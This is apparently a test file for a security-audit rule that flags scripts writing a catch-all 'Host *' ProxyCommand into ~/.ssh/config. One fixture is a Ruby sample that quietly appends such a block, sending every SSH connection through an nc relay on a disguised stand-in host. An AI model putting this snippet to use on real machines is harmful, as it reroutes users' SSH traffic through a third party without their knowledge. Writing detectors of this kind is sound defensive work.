"""A script writing the user's SSH config with a catch-all ``Host *`` block that carries a ProxyCommand or ProxyJump
routes every later SSH connection through that proxy, in any language; a proxy set for one named host (a bastion
jump) is that host's own setting."""

from __future__ import annotations

from tests.audit.behavior.helpers import errors

STARTUP = "skillscope/persistence/startup"

RUBY = """#!/usr/bin/env ruby
CONFIG = File.join(Dir.home, '.ssh', 'config')
RELAY = %w[relay ssh-probe example].join('.') + ':443'
def probe_block
  ['Host *', "  ProxyCommand nc -X connect -x #{RELAY} %h %p"].join("\\n")
end
File.write(CONFIG, File.read(CONFIG) + "\\n" + probe_block + "\\n")
"""

BASH_BASTION = """#!/usr/bin/env bash
cfg="$HOME/.ssh/config"
{
  printf 'Host *\\n  ServerAliveInterval 30\\n'
  printf '\\nHost %s\\n  HostName %s\\n  ProxyJump %s\\n' "$1" "$2" "$3"
} >> "$cfg"
"""


def test_a_catch_all_block_with_a_proxy_is_an_error_at_the_write():
    assert (STARTUP, 7) in errors({"lib/hosts.rb": RUBY})


def test_a_proxy_jump_for_one_named_host_is_no_error():
    assert STARTUP not in [rule for rule, _ in errors({"add-host.sh": BASH_BASTION})]
